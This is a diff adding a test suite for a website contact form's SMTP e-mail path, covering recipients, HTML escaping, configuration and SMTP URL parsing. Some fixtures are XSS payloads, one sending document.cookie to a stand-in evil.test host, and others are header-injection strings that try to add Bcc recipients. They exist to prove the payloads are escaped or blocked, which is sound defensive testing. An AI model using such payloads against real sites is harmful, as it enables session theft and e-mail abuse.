@@ -1,0 +1,140 @@
+// The e-mail a message becomes, delivered through a real SMTP server (the local mail catcher).
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import { contactSchema } from "../../../packages/site/app/lib/contact/schema.ts";
+import { DEFAULT_CONTACT_FROM, DEFAULT_CONTACT_TO, DEFAULT_SMTP_URL, readConfig } from "./config.ts";
+import { buildContactEmail, createSmtpSender, escapeHtml, parseSmtpUrl } from "./mail.ts";
+import { startContactStack, TEST_TO, validMessage, type ContactStack } from "./testing.ts";
+
+let stack: ContactStack;
+beforeAll(async () => {
+  stack = await startContactStack();
+});
+afterAll(() => stack.close());
+beforeEach(() => stack.catcher.clear());
+
+const meta = { requestId: "req-123", receivedAt: new Date("2026-01-02T03:04:05Z") };
+
+async function deliver(input: Record<string, string>) {
+  const message = contactSchema.parse(input);
+  await createSmtpSender(stack.config)(buildContactEmail(message, stack.config, meta));
+  const [delivered, ...rest] = await stack.catcher.messages();
+  expect(rest).toEqual([]);
+  return delivered!;
+}
+
+describe("contact e-mail over SMTP", () => {
+  it("goes only to the sales inbox, from the site, with Reply-To the visitor and a prefixed subject", async () => {
+    const mail = await deliver(validMessage());
+    expect(mail.envelope.to).toEqual([TEST_TO]);
+    expect(mail.to).toEqual([TEST_TO]);
+    expect(mail.cc).toEqual([]);
+    expect(mail.from).toBe("no-reply@orbitag.test");
+    expect(mail.replyTo).toBe("ada@example.com");
+    expect(mail.subject).toBe("[Orbitag contact] Tracking 400 infusion pumps");
+    expect(mail.headers.find((h) => h.key === "x-contact-request-id")?.value).toBe("req-123");
+  });
+
+  it("has a plain-text and an HTML part, both carrying every field", async () => {
+    const mail = await deliver({ ...validMessage(), message: "Line one\nLine two & more" });
+    for (const part of [mail.text, mail.html]) {
+      expect(part).toContain("Ada Lovelace");
+      expect(part).toContain("ada@example.com");
+      expect(part).toContain("Tracking 400 infusion pumps");
+    }
+    expect(mail.text).toContain("Line one\nLine two & more");
+    expect(mail.html).toContain("Line one\nLine two &amp; more");
+    expect(mail.html).toContain('<a href="mailto:ada@example.com">');
+  });
+
+  it("escapes HTML and script in every field of the HTML part, and keeps the text part verbatim", async () => {
+    const evil = {
+      name: `<img src=x onerror="alert(1)">`,
+      email: "o'brien@example.com",
+      subject: `<script>alert("subject")</script>`,
+      message: `</div><script>fetch('//evil.test/'+document.cookie)</script> & "quotes"`,
+    };
+    const mail = await deliver(evil);
+    expect(mail.html).not.toMatch(/<img|<script|<\/div><script/);
+    expect(mail.html).toContain("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;");
+    expect(mail.html).toContain("&lt;script&gt;alert(&quot;subject&quot;)&lt;/script&gt;");
+    expect(mail.html).toContain("&lt;/div&gt;&lt;script&gt;fetch(&#39;//evil.test/&#39;+document.cookie)");
+    expect(mail.html).toContain('href="mailto:o&#39;brien@example.com"');
+    expect(mail.text).toContain(evil.message);
+    expect(mail.subject).toBe(`[Orbitag contact] ${evil.subject}`);
+  });
+
+  it("cannot add recipients or headers through the name or subject", async () => {
+    const mail = await deliver({
+      ...validMessage(),
+      name: `Eve, "Mallory" <mallory@evil.test>, bob@evil.test; Bcc: carol@evil.test`,
+      subject: "Hello =?utf-8?Q?=0D=0ABcc=3A_dave@evil.test?= there",
+    });
+    expect(mail.envelope.to).toEqual([TEST_TO]);
+    expect(mail.to).toEqual([TEST_TO]);
+    expect(mail.cc).toEqual([]);
+    expect(mail.replyTo).toBe("ada@example.com");
+    const replyTo = mail.headers.filter((h) => h.key === "reply-to");
+    expect(replyTo).toHaveLength(1);
+    expect(mail.headers.map((h) => h.key)).not.toContain("bcc");
+  });
+
+  it("keeps non-ASCII text intact", async () => {
+    const mail = await deliver({ ...validMessage(), name: "Zoë Ångström", subject: "Ünïcödé — ✓ 日本語" });
+    expect(mail.subject).toBe("[Orbitag contact] Ünïcödé — ✓ 日本語");
+    expect(mail.text).toContain("Zoë Ångström");
+  });
+});
+
+describe("configuration", () => {
+  it("documents defaults for a local setup", () => {
+    const config = readConfig({});
+    expect(config.smtpUrl).toBe(DEFAULT_SMTP_URL);
+    expect(DEFAULT_SMTP_URL).toBe("smtp://127.0.0.1:54325");
+    expect(config.to).toBe(DEFAULT_CONTACT_TO);
+    expect(DEFAULT_CONTACT_TO).toBe("hello@orbitag.com");
+    expect(config.from).toBe(DEFAULT_CONTACT_FROM);
+    expect(DEFAULT_CONTACT_FROM).toBe("Orbitag website <no-reply@orbitag.com>");
+  });
+
+  it("reads SMTP_URL, CONTACT_TO and CONTACT_FROM", () => {
+    expect(
+      readConfig({ SMTP_URL: "smtps://u:p@mail.test:465", CONTACT_TO: "a@b.test", CONTACT_FROM: "c@d.test" }),
+    ).toMatchObject({
+      smtpUrl: "smtps://u:p@mail.test:465",
+      to: "a@b.test",
+      from: "c@d.test",
+    });
+  });
+});
+
+describe("escapeHtml", () => {
+  it("escapes the five HTML-significant characters and nothing else", () => {
+    expect(escapeHtml(`<a href="x">Tom & Jerry's</a> ✓`)).toBe(
+      "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&#39;s&lt;/a&gt; ✓",
+    );
+  });
+});
+
+describe("parseSmtpUrl", () => {
+  it("reads host, port, TLS mode, encoded credentials and query options", () => {
+    expect(parseSmtpUrl("smtp://127.0.0.1:54325")).toEqual({ host: "127.0.0.1", port: 54325, secure: false });
+    expect(
+      parseSmtpUrl(
+        "smtps://apikey:p%40ss%3Aword@smtp.example.com:465?tls.rejectUnauthorized=false&requireTLS=true&name=web",
+      ),
+    ).toEqual({
+      host: "smtp.example.com",
+      port: 465,
+      secure: true,
+      auth: { user: "apikey", pass: "p@ss:word" },
+      tls: { rejectUnauthorized: false },
+      requireTLS: true,
+      name: "web",
+    });
+  });
+
+  it("rejects anything but smtp:// and smtps://", () => {
+    expect(() => parseSmtpUrl("http://mail.example.com")).toThrow(/smtp:\/\//);
+    expect(() => parseSmtpUrl("not a url")).toThrow();
+  });
+});
